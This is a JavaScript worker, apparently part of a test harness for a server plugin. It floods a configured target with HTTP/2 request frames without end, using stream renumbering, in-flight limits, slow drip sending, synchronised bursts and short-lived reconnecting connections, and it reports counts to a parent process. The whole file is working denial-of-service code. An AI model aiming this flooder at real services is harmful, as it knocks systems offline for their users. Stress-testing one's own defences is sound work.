// A local user's process that attacks according to the plan on its standard input, until it is ended. It reports its
// counts to its parent twice a second. Plain JavaScript: it runs as another user, with Node.js only.

import { connect } from "node:net";
import { clearInterval, setInterval, setTimeout } from "node:timers";

const FRAME_HEADER = 9;
const HEADERS = 0x1;
const RST_STREAM = 0x3;
const PING = 0x6;
const END_STREAM = 0x1;
/** Bytes written at a time, so that many requests reach the plugin in one read. */
const BATCH_BYTES = 64 * 1024;
/** Pause between two attempts while no connection can be made. */
const PAUSE_MS = 20;

let input = "";
for await (const text of process.stdin.setEncoding("utf8")) input += text;
const plan = JSON.parse(input);
const opening = Buffer.from(plan.opening ?? "", "base64");
const request = Buffer.from(plan.request ?? "", "base64");
const done = { connections: 0, requests: 0, refused: 0 };

/** Returns one copy of the request's frames with the number of this stream. */
function numbered(stream) {
  const bytes = Buffer.from(request);
  if (plan.http) return bytes;
  for (let at = 0; at + FRAME_HEADER <= bytes.length; at += FRAME_HEADER + bytes.readUIntBE(at, 3)) {
    if (bytes[at + 3] !== PING) bytes.writeUInt32BE(stream, at + 5);
  }
  return bytes;
}

/** Counts the streams that the plugin has ended, from the frames that it sends. */
class Answers {
  #rest = Buffer.alloc(0);
  ended = 0;

  take(chunk) {
    let bytes = Buffer.concat([this.#rest, chunk]);
    while (bytes.length >= FRAME_HEADER) {
      const length = FRAME_HEADER + bytes.readUIntBE(0, 3);
      if (bytes.length < length) break;
      const type = bytes[3];
      if (type === RST_STREAM || (type === HEADERS && (bytes[4] & END_STREAM) !== 0)) this.ended += 1;
      bytes = bytes.subarray(length);
    }
    this.#rest = bytes;
  }
}

/** Sends of the connections that send together. */
const together = new Set();
if (plan.beatMs > 0) {
  setInterval(() => {
    for (const send of together) send();
  }, plan.beatMs);
}

/** Opens one connection after another, without end. */
function attack() {
  const socket = connect(plan.target);
  const answers = new Answers();
  let stream = 1;
  let sent = 0;
  let connected = false;
  let timer;
  const send = () => {
    if (socket.destroyed || request.length === 0) return;
    for (;;) {
      const batch = [];
      let bytes = 0;
      while (bytes < BATCH_BYTES && sent < plan.requests && sent - answers.ended < plan.inFlight) {
        const one = numbered(stream);
        stream += 2;
        sent += 1;
        done.requests += 1;
        bytes += one.length;
        batch.push(one);
      }
      if (batch.length === 0) break;
      if (!socket.write(Buffer.concat(batch))) return;
    }
  };
  socket.on("connect", () => {
    connected = true;
    done.connections += 1;
    socket.write(opening);
    if (plan.dripMs > 0) timer = setInterval(() => socket.write(numbered(stream)), plan.dripMs);
    else if (plan.beatMs > 0) together.add(send);
    else send();
    if (plan.lifeMs >= 0) setTimeout(() => socket.destroy(), plan.lifeMs);
  });
  socket.on("drain", send);
  if (plan.reads) {
    socket.on("data", (chunk) => {
      if (plan.http) return;
      answers.take(chunk);
      if (plan.beatMs === 0) send();
    });
  } else socket.pause();
  socket.on("error", () => {
    done.refused += 1;
  });
  socket.on("close", () => {
    clearInterval(timer);
    together.delete(send);
    setTimeout(attack, connected ? (plan.pauseMs ?? 0) : PAUSE_MS);
  });
}

for (let count = 0; count < plan.connections; count++) attack();
const tell = () => process.stdout.write(`${JSON.stringify(done)}\n`);
setInterval(tell, 500);
process.on("SIGTERM", () => {
  tell();
  process.exit();
});
